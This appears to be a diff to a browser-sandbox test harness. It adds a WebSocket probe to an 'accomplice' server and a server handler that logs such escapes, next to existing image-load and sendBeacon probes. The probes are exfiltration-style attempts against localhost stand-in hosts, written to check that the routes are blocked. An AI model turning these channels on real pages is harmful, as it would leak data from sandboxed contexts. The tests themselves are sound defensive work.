@@ -116,6 +116,10 @@ export const attacks = {
       'picture from the portal',
       `new Promise((done) => { const image = new Image(); image.onload = () => done('answered'); image.onerror = () => done('refused: picture'); image.src = '${portal}/favicon.svg'; })`,
     ),
+    learn(
+      'socket to the accomplice',
+      `new Promise((done) => { const socket = new WebSocket('${accomplice.replace('http', 'ws')}'); socket.onopen = () => done('answered'); socket.onerror = () => done('refused: socket'); })`,
+    ),
     learn('note that is left behind', `Promise.resolve(navigator.sendBeacon('${accomplice}/beacon', 'x'))`),
   ],
   permissions: () => [
@@ -156,6 +160,10 @@ export async function startAttackSite(targets: () => Targets): Promise<AttackSit
     escaped!.push(request.url ?? '');
     response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' });
     response.end('<!doctype html><title>accomplice</title>');
+  });
+  other.server.on('upgrade', (_request, socket) => {
+    escaped!.push('socket');
+    socket.destroy();
   });
   // Another host than the portal's, because cookies do not tell ports apart.
   const address = `http://localhost:${own.port}/`;
